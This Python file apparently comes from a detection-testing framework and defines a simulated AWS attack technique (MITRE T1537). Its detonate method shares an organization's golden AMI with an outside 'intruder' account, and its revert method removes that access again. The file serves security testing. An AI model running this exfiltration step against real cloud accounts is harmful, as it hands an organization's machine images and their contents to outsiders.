"""Share an AMI with an AWS account outside the organization."""

from __future__ import annotations

from cloudsoc.aws.session import client
from cloudsoc.simulate.technique import Ctx, Json, Technique, technique

OUTSIDE_ACCOUNT = "193672423079"  # the intruder's own account


@technique
class Ec2ShareAmi(Technique):
    title = "Exfiltrate an AMI by sharing it"
    attack = ("T1537",)
    expects = ("ec2_ami_shared_with_account",)
    description = (
        "Adds launch permission for an outside account to the organization's golden web image, so the "
        "intruder can launch it, with whatever it holds, in their own account."
    )

    def detonate(self, ctx: Ctx, state: Json) -> None:
        client("ec2", session=ctx.attacker()).modify_image_attribute(
            ImageId=ctx.res["image"], LaunchPermission={"Add": [{"UserId": OUTSIDE_ACCOUNT}]}
        )

    def revert(self, ctx: Ctx, state: Json) -> None:
        client("ec2", session=ctx.admin()).modify_image_attribute(
            ImageId=ctx.res["image"], LaunchPermission={"Remove": [{"UserId": OUTSIDE_ACCOUNT}]}
        )
